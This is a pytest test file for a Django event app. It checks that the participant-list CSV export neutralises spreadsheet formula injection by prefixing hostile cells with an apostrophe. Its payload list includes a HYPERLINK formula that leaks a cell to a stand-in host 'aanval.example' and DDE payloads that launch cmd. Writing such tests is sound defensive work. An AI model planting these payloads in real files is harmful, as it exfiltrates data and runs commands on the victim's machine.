"""The participant list as CSV: what guests typed opens in the organiser's
spreadsheet as text, never as a formula (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.tests.factories import ProfessionalFactory
from agenda.models import Registration

from .factories import EventFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://aanval.example/?d="&A2;"Klik")',
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(client, event):
    response = client.get(reverse("event_participants_csv", args=[event.slug]))
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(client, hostile):
    organiser = ProfessionalFactory()
    event = EventFactory(owner=organiser, question=hostile)
    RegistrationFactory(event=event, name=hostile, answer=hostile,
                        email="gast@example.nl", status=Registration.Status.PENDING)
    client.force_login(organiser)

    header, row = _csv_rows(client, event)

    assert header[4] == "'" + hostile
    assert (row[0], row[4]) == ("'" + hostile, "'" + hostile)


def test_ordinary_text_stays_as_it_was_typed(client):
    organiser = ProfessionalFactory()
    event = EventFactory(owner=organiser, question="Wat wilt u leren?")
    RegistrationFactory(event=event, name="Anna de Vries", email="anna@example.nl",
                        answer="Hoe ik 1 = 1 uitleg; en 'signaleren'.")
    client.force_login(organiser)

    header, row = _csv_rows(client, event)

    assert header[4] == "Wat wilt u leren?"
    assert row[:2] == ["Anna de Vries", "anna@example.nl"]
    assert row[4] == "Hoe ik 1 = 1 uitleg; en 'signaleren'."
